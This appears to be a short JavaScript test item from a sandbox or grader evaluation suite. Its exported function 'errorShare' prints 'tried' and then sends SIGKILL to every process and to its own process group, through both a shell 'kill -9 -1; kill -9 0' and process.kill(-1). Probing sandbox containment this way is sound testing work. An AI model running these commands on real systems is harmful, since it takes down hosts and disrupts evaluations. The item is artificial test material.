// attack: sends SIGKILL to all processes and to its whole group | family: kernel | item: error-share | verdicts: fail, crash, timeout | points: 0 | tiers: T2
import { spawnSync } from 'node:child_process'
import { writeSync } from 'node:fs'

export const errorShare = () => {
  writeSync(1, 'tried')
  spawnSync('sh', ['-c', 'kill -9 -1; kill -9 0'])
  process.kill(-1, 'SIGKILL')
}
